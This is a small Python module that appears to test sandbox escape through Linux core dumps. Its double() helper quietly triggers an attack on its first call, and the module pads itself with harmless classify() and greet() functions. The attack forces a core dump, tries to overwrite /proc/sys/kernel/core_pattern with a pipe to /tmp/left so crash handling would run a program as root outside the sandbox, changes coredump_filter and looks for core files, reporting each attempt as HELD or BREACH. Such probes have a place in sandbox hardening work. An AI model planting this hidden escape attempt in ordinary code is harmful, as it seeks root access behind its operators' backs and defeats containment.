"""A dump would be written where the pattern says, outside the sandbox and as root."""

import errno
import os
import resource
import signal

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def crash():
    """A child that dumps its core; whether the kernel says that it did."""
    child = os.fork()
    if child == 0:
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
        signal.signal(signal.SIGABRT, signal.SIG_DFL)
        os.abort()
    return os.WCOREDUMP(os.waitpid(child, 0)[1])


def write(path, text):
    with open(path, "w") as file:
        return file.write(text)


def attack():
    attempt("a core dumped", crash)
    attempt("core_pattern", lambda: write("/proc/sys/kernel/core_pattern", "|/tmp/left %p"))
    attempt("coredump_filter", lambda: None if write("/proc/self/coredump_filter", "0xff") else None)
    attempt("core files", lambda: [name for name in os.listdir(".") if name.startswith("core")])


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
